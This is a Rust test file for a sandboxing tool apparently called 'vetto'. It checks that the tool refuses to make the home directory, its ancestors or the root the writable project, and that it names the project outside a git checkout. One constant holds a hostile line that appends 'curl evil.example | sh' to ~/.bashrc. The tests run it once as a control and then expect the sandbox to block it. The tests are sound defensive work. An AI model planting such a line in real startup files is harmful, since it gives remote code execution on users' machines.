//! The home directory as the project: outside a git checkout the working
//! directory becomes the project, and the project is writable — from `~`
//! that would hand the job `~/.bashrc`, `~/.config` and everything that
//! runs at the next login.

use crate::util::{Tier, World, read};
use crate::{at_every_tier, require};

const APPEND: &str = "echo 'curl evil.example | sh' >> ~/.bashrc; echo appended";

/// Runs as an unprivileged user: `vetto run` from `~` (the world's home,
/// no git checkout), then with `--project` naming the home, an ancestor of
/// it, and `/`, while the job appends to `~/.bashrc`. Evidence: bare, the
/// append works; through vetto, each is refused with 125 and a way to name
/// a project, and `~/.bashrc` is what it was.
fn home_directory_is_never_the_project(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let bashrc = w.home.join(".bashrc");
    let original = read(&bashrc);

    w.bare(&["sh", "-c", APPEND])
        .cwd(&w.home)
        .run()
        .assert_stdout_contains("appended");
    assert_ne!(read(&bashrc), original, "control: the bare append failed");
    w.write(&bashrc, original.as_deref().unwrap_or_default());

    let home = w.home.to_str().unwrap();
    let root = w.root.to_str().unwrap();
    for (options, says) in [
        (
            vec![],
            "(the working directory; no git checkout here), your home directory",
        ),
        (vec!["--project", home], "(--project), your home directory"),
        (vec!["--project", "."], "(--project), your home directory"),
        (vec!["--project", root], "above your home directory"),
        (vec!["--project", "/"], "the root directory"),
    ] {
        let mut args = vec!["run", "--tier", tier.name()];
        args.extend_from_slice(&options);
        args.extend_from_slice(&["--", "sh", "-c", APPEND]);
        let out = w.vetto(&args).cwd(&w.home).run();
        out.assert_code(125)
            .assert_stderr_contains(says)
            .assert_stderr_contains("name the project with --project DIR")
            .assert_stdout_lacks("appended");
        assert_eq!(read(&bashrc), original, "~/.bashrc changed\n{}", out.dump());
    }
}

/// Runs as an unprivileged user: `vetto run` in a directory that is no git
/// checkout. Evidence: the job runs, and vetto says in one line which
/// directory became the (writable) project.
fn outside_a_checkout_the_writable_project_is_named(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let out = w
        .vetto(&[
            "run",
            "--tier",
            tier.name(),
            "--",
            "sh",
            "-c",
            "touch made-here",
        ])
        .cwd(&w.outside)
        .run();
    out.assert_success().assert_stderr_contains(&format!(
        "vetto: no git checkout here: the project (writable) is {}; name another with --project DIR",
        w.outside.display()
    ));
    assert!(w.outside.join("made-here").exists(), "{}", out.dump());
}

at_every_tier!(
    home_directory_is_never_the_project,
    outside_a_checkout_the_writable_project_is_named
);
